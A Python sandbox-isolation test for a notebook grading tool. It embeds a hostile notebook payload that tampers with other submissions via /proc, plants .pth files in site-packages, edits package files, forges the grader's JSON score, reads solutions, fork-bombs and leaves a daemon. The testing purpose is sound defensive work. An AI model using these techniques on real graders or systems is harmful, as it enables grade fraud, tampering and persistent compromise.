"""One hostile submission in a class folder must not change anyone else's grade.

Builds a class folder of honest submissions (solutions and unchanged exercises of
cheap exercises, with small honest variations) and one hostile notebook, grades
every honest notebook alone with ``dpcourse grade``, then the whole folder in one
``dpcourse grade`` call, and compares. The hostile notebook's code, from its kernel
and from inside the grader's ranks, tries to:

* append a cell to, and overwrite, the other notebooks of the folder (by path, and
  through ``/proc/<pid>/cwd`` and ``/proc/<pid>/fd`` of every process it can see);
* write a ``.pth`` file into site-packages (``site.getsitepackages()`` and
  ``site.getusersitepackages()``);
* append to files of the course package (``dpcourse/formatting.py`` and a check's
  ``*_verdicts.py``), in the checkout and in the package it imports;
* write the grader's ``--json`` file (its path read from the ``cmdline`` of every
  process it can see, and given to it outright) and make its folder unwritable;
* read ``solutions/`` and the other students' notebooks;
* fork a few hundred short-lived children, and leave a detached daemon behind.

Two more hostile notebooks (``tests/planted/sandbox_attacks.py``), from their kernels
and ranks likewise:

* reach the network: TCP and UDP to listeners this script opens on 127.0.0.1 and on
  the machine's other addresses, an abstract and a named Unix socket, a DNS lookup
  (and a query sent straight to the name server), an HTTP request to the package index;
* ptrace-attach (``PTRACE_SEIZE``, ``PTRACE_ATTACH``) to every process they can see and
  to the outside pids they know or learn (the grader's, from the environment or the
  command lines shown in ``/proc``), and find the grader's environment (a secret this
  script puts there) in ``/proc/<pid>/environ`` or in the memory of what they attach to.

Each attempt that works leaves a trace this script can see: a marker line in the
file it wrote, a file in a canary folder outside the sandbox, a connection or datagram
counted by a listener, or a line in the report the hostile code raises with (the
kernel's error message, and the error a rank reports).

Run: ``python tests/grade_folder_experiment.py --n 30 --out docs/results/grading/folder-30.json``
(``tests/test_grade_folder_isolation.py`` runs a small version of it).
"""

from __future__ import annotations

import argparse
import concurrent.futures
import contextlib
import datetime
import hashlib
import json
import os
import platform
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time

import nbformat

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from planted import sandbox_attacks  # noqa: E402

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
DPCOURSE = os.path.join(REPO, ".venv", "bin", "dpcourse")
PACKAGE = os.path.join(REPO, "dpcourse")
# Cheap exercises: two grade with 2- and 3-rank worlds, one without ranks.
EXERCISES = ("01_why_data_parallel.ipynb", "02_collectives.ipynb", "09_cost_model.ipynb")
HOSTILE_NAME = "01_why_data_parallel.ipynb"  # graded as exercise 01 (by its file name)
INDEX_HOST = "pypi.org"  # the package index the network attack asks for
TIMEOUT = 120  # --timeout given to every grading call, alone or in the folder

# The attack, run by the hostile notebook's kernel and, through torch.sys (which the
# grader's static policy does not refuse), inside each of its ranks. ``CFG`` comes
# from the notebook (paths the attacker is assumed to know); ``WHERE`` is
# "kernel" or "rank". Returns a list of what worked ("BREACH ...") and what did not.
ATTACK = r'''
import glob, json, os, site, sys, time
log = []
cfg = CFG
marker = cfg["marker"] + "-" + WHERE

def note(ok, what):
    log.append(("BREACH " if ok else "blocked ") + what)
    if ok:  # leave a trace outside the sandbox too, where possible
        try:
            with open(os.path.join(cfg["canary"], "breach-%s-%d" % (WHERE, len(log))), "w") as f:
                f.write(what)
        except OSError:
            pass

def try_(what, fn):
    try:
        fn()
        note(True, what)
    except Exception as exc:
        note(False, "%s (%s)" % (what, type(exc).__name__))

def append_cell(path):
    with open(path) as f:
        nb = json.load(f)
    nb["cells"].append({"cell_type": "code", "metadata": {}, "outputs": [],
                        "execution_count": None, "source": "raise SystemExit  # " + marker})
    with open(path, "w") as f:
        json.dump(nb, f)

def overwrite(path):
    with open(path, "w") as f:
        f.write("{}  " + marker)

def append_line(path):
    with open(path, "a") as f:
        f.write("\n# " + marker + "\n")

def read(path):
    with open(path, "rb") as f:
        f.read(16)

# The other submissions, by path.
targets = sorted(set(cfg["others"]) | set(glob.glob(os.path.join(cfg["folder"], "**", "*.ipynb"),
                                                     recursive=True)))
for path in targets:
    if os.path.abspath(path) == os.path.abspath(cfg["self"]):
        continue
    try_("read " + path, lambda: read(path))
    try_("append a cell to " + path, lambda: append_cell(path))
for path in cfg["overwrite"]:
    try_("overwrite " + path, lambda: overwrite(path))

# Every process this code can see: its cwd, its open files, its command line.
pids = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
ppid_chain, pid = [], os.getpid()
while pid > 1:
    try:
        with open("/proc/%d/stat" % pid) as f:
            pid = int(f.read().rsplit(")", 1)[1].split()[1])
        ppid_chain.append(pid)
    except OSError:
        break
log.append("sees %d processes; ancestors %s" % (len(pids), ppid_chain))
json_paths = set(cfg["json"])
for p in sorted(set(pids) | {str(q) for q in ppid_chain}):
    try:
        with open("/proc/%s/cmdline" % p, "rb") as f:
            argv = f.read().decode(errors="replace").split("\0")
        for i, a in enumerate(argv[:-1]):
            if a == "--json":
                json_paths.add(os.path.join(os.readlink("/proc/%s/cwd" % p), argv[i + 1]))
                note(True, "read the grader's --json path from /proc/%s/cmdline" % p)
    except OSError:
        pass
    try:
        for name in glob.glob(os.path.join("/proc/%s/cwd" % p, "**", "*.ipynb"), recursive=True):
            if cfg["self_name"] not in name:
                try_("append a cell through " + name, lambda: append_cell(name))
    except OSError:
        pass
    try:
        for fd in os.listdir("/proc/%s/fd" % p):
            link = os.readlink("/proc/%s/fd/%s" % (p, fd))
            if link.endswith((".ipynb", ".json")):
                try_("append a cell through /proc/%s/fd/%s (%s)" % (p, fd, link),
                     lambda: append_cell("/proc/%s/fd/%s" % (p, fd)))
    except OSError:
        pass
for path in sorted(json_paths):
    try_("write the grader's --json " + path,
         lambda: open(path, "w").write(json.dumps({"points": 10 ** 6, "by": marker})))
    try_("make the --json folder unwritable", lambda: os.chmod(os.path.dirname(path), 0o500))

# site-packages and the user site: a .pth runs in every later Python process.
own = os.path.realpath(os.getcwd()) + os.sep  # its scratch folder: its to write
for folder in list(site.getsitepackages()) + [site.getusersitepackages()] + cfg["site"]:
    pth = os.path.join(folder, "zz_%s.pth" % marker)
    def plant(pth=pth, folder=folder):
        os.makedirs(folder, exist_ok=True)
        with open(pth, "w") as f:
            f.write("# " + marker + "\n")
    if os.path.realpath(folder).startswith(own):
        log.append("user site is inside its own scratch: " + folder)
        continue
    try_("plant " + pth, plant)

# The course package: the checkout's files and the copy this process imports.
pkg_files = list(cfg["package_files"])
try:
    import dpcourse
    here = os.path.dirname(dpcourse.__file__)
    pkg_files += [os.path.join(here, "formatting.py"),
                  os.path.join(here, "grading", "checks", "join_verdicts.py")]
except Exception as exc:
    log.append("could not import dpcourse (%s)" % type(exc).__name__)
for path in pkg_files:
    try_("append to " + path, lambda: append_line(path))

# The answers.
for path in cfg["secrets"]:
    try_("read " + path, lambda: read(path))

# A light fork bomb: short-lived children, never waited for (zombies until we exit).
forked = 0
try:
    for _ in range(cfg["forks"]):
        if os.fork() == 0:
            os._exit(0)
        forked += 1
except OSError as exc:
    log.append("fork stopped after %d (%s)" % (forked, type(exc).__name__))
log.append("forked %d short-lived children" % forked)

# A detached daemon (double fork, new session), found afterwards by its command line.
try:
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sh", ["sh", "-c", "sleep 600; : " + marker])
        os._exit(0)
    os.waitpid(pid, 0)
    log.append("started a detached daemon")
except OSError as exc:
    log.append("no daemon (%s)" % type(exc).__name__)
REPORT = log
'''


def hostile_notebook(cfg: dict, attack: str = ATTACK) -> nbformat.NotebookNode:
    """Exercise 01's notebook whose kernel and graded function run ``attack``.

    The graded ``global_mean_gradient`` runs the attack once per rank and raises with
    its report (so that the report reaches the grader's results); the kernel runs it
    and raises with its report in the last cell.
    """
    nb = nbformat.read(os.path.join(REPO, "solutions", HOSTILE_NAME), as_version=4)
    code = [i for i, c in enumerate(nb.cells) if c.cell_type == "code"]
    cells = [
        nbformat.v4.new_code_cell("import torch\nimport torch.distributed as dist"),
        nbformat.v4.new_code_cell(f"CFG = {json.dumps(cfg)!s}\nATTACK = {attack!r}\nDONE = []"),
        nbformat.v4.new_code_cell(
            "def global_mean_gradient(local_grad, local_size, group=None):\n"
            "    if not DONE:\n"
            "        DONE.append(1)\n"
            "        env = {'CFG': CFG, 'WHERE': 'rank'}\n"
            "        torch.sys.modules['builtins'].exec(ATTACK, env)\n"
            "        raise RuntimeError('hostile-report ' + torch.sys.modules['json'].dumps("
            "env['REPORT']))\n"
            "    return local_grad\n\n\n"
            "def shard_sizes(n, world_size):\n"
            "    return [n // world_size] * world_size\n"),
        nbformat.v4.new_code_cell(
            "import json\nenv = {'CFG': CFG, 'WHERE': 'kernel'}\nexec(ATTACK, env)\n"
            "print('\\n'.join(env['REPORT']))"),
        nbformat.v4.new_code_cell("raise RuntimeError('hostile-report ' + json.dumps(env['REPORT']))"),
    ]
    assert code  # the solution it is made from is a real exercise notebook
    nb.cells = cells
    return nb


def _add_cell(nb, cell, at=None) -> None:
    nb.cells.insert(len(nb.cells) if at is None else at, cell)


def honest_notebook(k: int) -> tuple[str, nbformat.NotebookNode, str]:
    """The ``k``-th honest submission: ``(file name, notebook, what it is)``.

    Cycles over :data:`EXERCISES`, solutions and unchanged exercises, with honest
    variations (an extra print cell, an extra markdown cell, a call of the learner's
    own function).
    """
    name = EXERCISES[k % len(EXERCISES)]
    kind = ("solutions", "exercises")[(k // len(EXERCISES)) % 2]
    nb = nbformat.read(os.path.join(REPO, kind, name), as_version=4)
    variant = (k // (2 * len(EXERCISES))) % 4
    what = f"{kind}/{name}"
    if variant == 1:
        _add_cell(nb, nbformat.v4.new_code_cell(f"print('submission {k}: my answer')"))
        what += " + a print cell"
    elif variant == 2:
        _add_cell(nb, nbformat.v4.new_markdown_cell(f"My notes ({k}): I checked it twice."), 1)
        what += " + a markdown cell"
    elif variant == 3:
        _add_cell(nb, nbformat.v4.new_code_cell(f"x_{k} = [i * i for i in range({k + 3})]\n"
                                                f"print(sum(x_{k}))"))
        what += " + a computing cell"
    return name, nb, what


def outside_view() -> dict:
    """What the network attack is told of this machine: its name server (from
    ``/etc/resolv.conf``) and the package index's addresses, as seen from outside the sandbox."""
    nameserver = None
    try:
        with open("/etc/resolv.conf") as f:
            servers = [ln.split()[1] for ln in f if ln.startswith("nameserver ")]
        nameserver = next((a for a in servers if "." in a), None)
    except (OSError, IndexError):
        pass
    try:
        ips = sorted({a[4][0] for a in socket.getaddrinfo(INDEX_HOST, 443, socket.AF_INET)})
    except OSError:
        ips = []  # this machine is offline: the attack still tries the name
    return {"nameserver": nameserver, "index_host": INDEX_HOST,
            "index_url": f"https://{INDEX_HOST}/simple/pip/", "index_ips": ips[:2]}


def build_class(folder: str, honest_indices, canary: str, json_path: str,
                marker: str, forks: int = 300, outside: dict | None = None) -> dict:
    """Write the honest submissions ``honest_notebook(k)`` and the hostile ones under ``folder``.

    ``outside``: what the network and ptrace notebooks are told (:meth:`Listeners.cfg`,
    :func:`outside_view`, ``secret``, ``outside_pids``); without it only the file attack
    is written. Returns ``{"honest": {submission: (path, what)}, "hostile": (submission,
    path), "attacks": {"network" | "ptrace": (submission, path)}}``.
    """
    honest = {}
    for k in honest_indices:
        name, nb, what = honest_notebook(k)
        sub = f"student{k + 1:02d}"
        os.makedirs(os.path.join(folder, sub))
        path = os.path.join(folder, sub, name)
        nbformat.write(nb, path)
        honest[sub] = (path, what)
    # The hostile student sorts in the middle of the class: graded before some, after others.
    sub = f"student{len(honest) // 2:02d}x"
    os.makedirs(os.path.join(folder, sub))
    path = os.path.join(folder, sub, HOSTILE_NAME)
    cfg = {"marker": marker, "canary": canary, "folder": os.path.abspath(folder),
           "self": path, "self_name": sub,
           "others": [p for p, _ in honest.values()],
           "overwrite": [p for p, _ in list(honest.values())[-2:]],
           "json": [json_path],
           "site": [],
           "package_files": [os.path.join(PACKAGE, "formatting.py"),
                             os.path.join(PACKAGE, "grading", "checks", "join_verdicts.py"),
                             os.path.join(REPO, "solutions", EXERCISES[0])],
           "secrets": [os.path.join(REPO, "solutions", n) for n in EXERCISES],
           "forks": forks}
    nbformat.write(hostile_notebook(cfg), path)
    attacks = {}
    for kind, code in (("network", sandbox_attacks.NETWORK), ("ptrace", sandbox_attacks.PTRACE)):
        if outside is None:
            break
        other = f"student{len(honest) // 2:02d}{kind}"
        os.makedirs(os.path.join(folder, other))
        attacks[kind] = (other, os.path.join(folder, other, HOSTILE_NAME))
        nbformat.write(hostile_notebook(dict(outside, marker=f"{marker}-{kind}"), code),
                       attacks[kind][1])
    return {"honest": honest, "hostile": (sub, path), "attacks": attacks}


def _sha(path: str) -> str:
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for block in iter(lambda: f.read(1 << 20), b""):
            h.update(block)
    return h.hexdigest()


def tree_state(root: str, content: bool = True) -> dict:
    """``{relative path: fingerprint}`` of every file under ``root``.

    ``content``: a SHA-256 of each file; else its size, mtime and ctime (the ctime of a
    file cannot be set back by its writer), for trees too large to read (site-packages).
    """
    out = {}
    if not os.path.isdir(root):
        return out
    for folder, dirs, names in os.walk(root):
        # Python's own byte-code caches are left out: the grader's imports write them.
        dirs[:] = sorted(d for d in dirs if d != "__pycache__")
        for name in names:
            path = os.path.join(folder, name)
            rel = os.path.relpath(path, root)
            try:
                if content:
                    out[rel] = _sha(path)
                else:
                    st = os.lstat(path)
                    out[rel] = (st.st_size, st.st_mtime_ns, st.st_ctime_ns)
            except OSError as exc:
                out[rel] = f"unreadable: {type(exc).__name__}"
    out["."] = oct(os.stat(root).st_mode)
    return out


def site_folders() -> list[str]:
    """The venv's site-packages and the user site of the grader's Python."""
    code = "import json, site; print(json.dumps(site.getsitepackages() + [site.getusersitepackages()]))"
    return json.loads(subprocess.run([os.path.join(REPO, ".venv", "bin", "python"), "-c", code],
                                     capture_output=True, text=True, check=True).stdout)


def changed(before: dict, after: dict) -> list[str]:
    """Paths added, removed or changed between two :func:`tree_state` snapshots."""
    return sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))


def marked_files(roots: list[str], marker: str, skip: tuple[str, ...] = ()) -> list[str]:
    """Files under ``roots`` (Python sources, ``.pth``, notebooks) whose text holds ``marker``.

    ``skip``: files that hold it from the start (the hostile notebook itself).
    """
    found = []
    for root in roots:
        for folder, _, names in os.walk(root):
            for name in names:
                if name.endswith((".py", ".pth", ".ipynb")) or marker in name:
                    path = os.path.join(folder, name)
                    if path in skip:
                        continue
                    try:
                        with open(path, "rb") as f:
                            if marker.encode() in f.read() or marker in name:
                                found.append(path)
                    except OSError:
                        pass
    return found


def undo_marks(paths: list[str], marker: str) -> None:
    """Take the hostile code's marker lines back out of ``paths`` (or remove planted files)."""
    for path in paths:
        if marker in os.path.basename(path):
            os.remove(path)
            continue
        with open(path, "rb") as f:
            data = f.read()
        tail = f"\n# {marker}".encode()
        while tail in data:
            i = data.index(tail)
            j = data.index(b"\n", i + 1)
            data = data[:i] + data[j:]
        with open(path, "wb") as f:
            f.write(data)


def processes_with(marker: str) -> list[int]:
    """Pids of the processes whose command line holds ``marker``."""
    found = []
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == os.getpid():
            continue
        try:
            with open(f"/proc/{p}/cmdline", "rb") as f:
                if marker.encode() in f.read():
                    found.append(int(p))
        except OSError:
            pass
    return found


def grade(paths: list[str], json_path: str, timeout: int = TIMEOUT,
          limit: float = 1800, env: dict | None = None) -> dict:
    """Run ``dpcourse grade paths --json json_path`` (with ``env`` added to this process's
    environment); return rc, wall time, output, JSON."""
    t0 = time.monotonic()
    try:
        proc = subprocess.run([DPCOURSE, "grade", *paths, "--json", json_path,
                               "--timeout", str(timeout)],
                              capture_output=True, text=True, timeout=limit, cwd=REPO,
                              env=dict(os.environ, **(env or {})))
        rc, out = proc.returncode, proc.stdout + proc.stderr
    except subprocess.TimeoutExpired as exc:
        rc, out = "timed out", f"still running after {limit} s: {exc}"
    wall = time.monotonic() - t0
    data = None
    try:
        with open(json_path) as f:
            data = json.load(f)
    except (OSError, ValueError):
        pass
    return {"rc": rc, "wall_s": round(wall, 1), "output": out, "json": data}


def verdicts(data: dict | None) -> dict:
    """``{submission: {"status", "points", "checks": {check: {"points", "criteria"}}}}``.

    A criterion is its name and whether it passed: what a score is made of. The
    detail texts are left out (each run draws fresh random cases, so they may quote
    other numbers).
    """
    out = {}
    if not data:
        return out
    for nb in data.get("notebooks", []):
        out[nb["submission"]] = {"status": nb["status"], "notebook": nb["notebook"],
                                 "sandboxed": nb.get("sandboxed"), "points": 0.0, "checks": {}}
    for row in data.get("results", []):
        sub = out.setdefault(row["submission"], {"status": None, "points": 0.0, "checks": {}})
        sub["points"] = round(sub["points"] + row["points"], 4)
        sub["checks"][row["check"]] = {
            "status": row["status"], "points": row["points"], "max_points": row["max_points"],
            "not_graded": row.get("not_graded"),
            "criteria": {c["name"]: c["passed"] for c in row["criteria"]}}
    return out


def bwrap_version() -> str:
    try:
        return subprocess.run(["bwrap", "--version"], capture_output=True, text=True,
                              timeout=30).stdout.strip()
    except (OSError, subprocess.TimeoutExpired) as exc:
        return f"not available ({exc})"


def hostile_reports(data: dict | None, sub: str) -> dict:
    """What the hostile code said it managed: the kernel's and the ranks' reports."""
    out = {"kernel": None, "ranks": []}
    if not data:
        return out
    for nb in data.get("notebooks", []):
        if nb["submission"] == sub and "hostile-report " in (nb.get("message") or ""):
            out["kernel"] = json.loads(nb["message"].split("hostile-report ", 1)[1])
    for row in data.get("results", []):
        if row["submission"] != sub:
            continue
        for c in row["criteria"]:
            for text in (c.get("detail") or "", c.get("hint") or ""):
                if "hostile-report " in text:
                    blob = text.split("hostile-report ", 1)[1]
                    try:
                        report = json.JSONDecoder().raw_decode(blob)[0]
                    except ValueError:
                        report = [blob[:2000]]
                    if report not in out["ranks"]:
                        out["ranks"].append(report)
        for text in row.get("notes", []):
            if "hostile-report " in text:
                out["ranks"].append(text[:2000])
    return out


def breaches(reports: dict) -> list[str]:
    """The ``BREACH`` lines of :func:`hostile_reports`' kernel and rank reports."""
    lists = [reports["kernel"] or []] + [r for r in reports["ranks"] if isinstance(r, list)]
    return [line for rep in lists for line in rep if str(line).startswith("BREACH")]


@contextlib.contextmanager
def outside_ends(work: str, marker: str):
    """Open the listeners and make up the secret the network and ptrace notebooks look for.

    Yields ``(listeners, outside, env)``: the :class:`~planted.sandbox_attacks.Listeners`
    (their control round done), what the notebooks are told (``build_class``'s
    ``outside``) and the environment to grade with (the secret in ``GRADER_SECRET``).
    """
    listeners = sandbox_attacks.Listeners(f"dpcourse-{marker}", work)
    try:
        control = listeners.control()
        secret = f"s3cret-{os.urandom(8).hex()}"
        outside = {**listeners.cfg(), **outside_view(), "secret": secret, "control": control,
                   "outside_pids": [os.getpid(), os.getppid()]}
        yield listeners, outside, {"GRADER_SECRET": secret}
    finally:
        listeners.close()


def attack_results(data: dict | None, attacks: dict, listeners) -> dict:
    """Per attack notebook: its result, its reports and their breaches; and what reached the
    listeners (after their control round: only the notebooks' connections)."""
    out = {"listeners_reached": list(listeners.reached)}
    for kind, (sub, _) in attacks.items():
        reports = hostile_reports(data, sub)
        out[kind] = {"submission": sub, "result": verdicts(data).get(sub),
                     "kernel_report": reports["kernel"], "rank_reports": reports["ranks"],
                     "breaches_reported": breaches(reports)}
    return out


def experiment(n: int, work: str, jobs: int = 1, forks: int = 300) -> dict:
    """Grade ``n - 3`` honest notebooks alone, then all ``n`` as one folder; compare.

    Args:
        n: notebooks in the folder, the three hostile ones included.
        work: an empty folder for the class, the outputs and the canary.
        jobs: honest notebooks graded alone at the same time (each its own grading call),
            beside the grading of the whole folder.
        forks: children the hostile code forks, from the kernel and from each rank.
    """
    marker = f"hostile{os.getpid()}x{int(time.time())}"
    for d in ("canary", os.path.join("out", "folder")):
        os.makedirs(os.path.join(work, d))
    with outside_ends(work, marker) as (listeners, outside, env):
        result = _experiment(n, work, jobs, forks, marker, listeners, outside, env)
    result["network_and_ptrace"]["listeners_reached"] = list(listeners.reached)
    result["network_and_ptrace"]["listener_control"] = outside["control"]
    return result


def _experiment(n, work, jobs, forks, marker, listeners, outside, env) -> dict:
    """:func:`experiment` with the listeners open (``outside_ends``)."""
    folder, canary, outs = (os.path.join(work, d) for d in ("class", "canary", "out"))
    json_path = os.path.join(outs, "folder", "grades.json")
    built = build_class(folder, range(n - 3), canary, json_path, marker, forks, outside)
    hostile_sub, _ = built["hostile"]

    # Each honest notebook alone (a copy in a folder of its own, same submission name).
    def alone(sub):
        path, _ = built["honest"][sub]
        single = os.path.join(work, "alone", sub)
        os.makedirs(single)
        shutil.copy(path, single)
        return sub, grade([single], os.path.join(outs, f"alone-{sub}.json"), env=env)

    sites = site_folders()
    roots = {"class folder": (folder, True), "course package": (PACKAGE, True),
             "solutions": (os.path.join(REPO, "solutions"), True),
             **{f"site {s}": (s, False) for s in sites}}
    before = {k: tree_state(r, c) for k, (r, c) in roots.items()}
    # The folder is graded while the alone calls run (they touch none of its files):
    # scores must not depend on what else the machine does.
    t0 = time.monotonic()
    with concurrent.futures.ThreadPoolExecutor(1) as one:
        folder_run = one.submit(grade, [folder], json_path, env=env)
        with concurrent.futures.ThreadPoolExecutor(max(1, jobs)) as pool:
            alone_runs = dict(pool.map(alone, sorted(built["honest"])))
        alone_wall = time.monotonic() - t0
        in_folder = folder_run.result()
    after = {k: tree_state(r, c) for k, (r, c) in roots.items()}
    time.sleep(2)  # a daemon that outlives the grader would still be there now
    survivors = processes_with(marker)
    for pid in survivors:  # clean up before reporting, whatever happened
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    solutions = os.path.join(REPO, "solutions")
    marked = marked_files([PACKAGE, solutions, *sites, folder, outs], marker,
                          skip=(built["hostile"][1], *(p for _, p in built["attacks"].values())))
    canaries = sorted(os.listdir(canary))
    diffs = {k: changed(before[k], after[k]) for k in roots}
    # Others edit the checkout meanwhile: a changed file of the package or of solutions/
    # counts against the hostile notebook when it holds the marker the hostile code writes.
    checkout = ("course package", "solutions")
    by_hostile = [p for p in marked if p.startswith((PACKAGE + os.sep, solutions + os.sep))]
    undo_marks([p for p in marked if not p.startswith(folder)], marker)

    folder_v = verdicts(in_folder["json"])
    per_nb, differences = [], []
    for sub in sorted(built["honest"]):
        path, what = built["honest"][sub]
        a = verdicts(alone_runs[sub]["json"]).get(sub)
        f = folder_v.get(sub)
        same = a is not None and f is not None and a == f
        if not same:
            differences.append({"submission": sub, "alone": a, "in_folder": f})
        per_nb.append({"submission": sub, "notebook": os.path.basename(path), "what": what,
                       "points_alone": a and a["points"], "points_in_folder": f and f["points"],
                       "status_alone": a and a["status"], "status_in_folder": f and f["status"],
                       "criteria_alone": a and {k: v["criteria"] for k, v in a["checks"].items()},
                       "identical": same, "alone_wall_s": alone_runs[sub]["wall_s"],
                       "alone_rc": alone_runs[sub]["rc"]})
    hostile = folder_v.get(hostile_sub)
    reports = hostile_reports(in_folder["json"], hostile_sub)
    return {
        "notebooks": n, "honest": n - 3, "hostile_submission": hostile_sub,
        "identical": sum(p["identical"] for p in per_nb), "differences": differences,
        "per_notebook": per_nb,
        "hostile": {"result": hostile, "kernel_report": reports["kernel"],
                    "rank_reports": reports["ranks"], "breaches_reported": breaches(reports)},
        "network_and_ptrace": attack_results(in_folder["json"], built["attacks"], listeners),
        "files_changed": diffs,
        "files_unchanged": not any(v for k, v in diffs.items() if k not in checkout)
        and not by_hostile,
        "checkout_note": "files of the course package and solutions/ changed during the run "
        "hold no marker of the hostile code (edits of the checkout made meanwhile)"
        if not by_hostile else f"the hostile code changed {by_hostile}",
        "files_with_marker": marked, "canary_files": canaries,
        "surviving_processes": survivors,
        "folder_grading": {"rc": in_folder["rc"], "wall_s": in_folder["wall_s"],
                           "output_tail": in_folder["output"][-3000:]},
        "alone_grading": {"calls": len(alone_runs), "wall_s": round(alone_wall, 1),
                          "sum_of_calls_s": round(sum(r["wall_s"] for r in alone_runs.values()), 1),
                          "concurrent_calls": jobs,
                          "note": "the folder was graded at the same time as the alone calls"},
        "grade_timeout_s": TIMEOUT,
    }


def machine() -> dict:
    return {"hardware": f"CPU only, {os.cpu_count()} cores", "gpu": "none",
            "platform": platform.platform(), "python": platform.python_version(),
            "sandbox": bwrap_version(),
            "load_average_at_start": [round(x, 1) for x in os.getloadavg()]}


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--n", type=int, default=30,
                    help="notebooks in the folder, the three hostile ones included")
    ap.add_argument("--out", required=True, help="JSON file for the results")
    ap.add_argument("--jobs", type=int, default=1,
                    help="honest notebooks graded alone at the same time")
    args = ap.parse_args(argv)
    if args.n < 4:
        ap.error("--n must be at least 4 (one honest notebook and the three hostile ones)")
    os.makedirs(os.path.dirname(os.path.abspath(args.out)), exist_ok=True)
    info = machine()
    import torch
    info["torch"] = torch.__version__
    started = datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
    work = tempfile.mkdtemp(prefix="grade-folder-")
    try:
        result = experiment(args.n, work, args.jobs)
    finally:
        shutil.rmtree(work, ignore_errors=True)
    # Paths of this machine's temp folder are not part of the record.
    text = json.dumps({"started_utc": started, "machine": info, **result}, indent=1)
    text = text.replace(work, "<work>").replace(REPO, "<repo>")
    with open(args.out, "w") as f:
        f.write(text + "\n")
    net = result["network_and_ptrace"]
    got_out = net["listeners_reached"] + [b for k in ("network", "ptrace")
                                          for b in net[k]["breaches_reported"]]
    print(f"{result['identical']} of {result['honest']} honest notebooks scored identically; "
          f"files unchanged: {result['files_unchanged']}; survivors: "
          f"{len(result['surviving_processes'])}; network and ptrace: {len(got_out)} got out; "
          f"folder grading {result['folder_grading']['wall_s']} s")
    return 0 if (result["identical"] == result["honest"] and result["files_unchanged"]
                 and not result["surviving_processes"] and not got_out) else 1


if __name__ == "__main__":
    sys.exit(main())
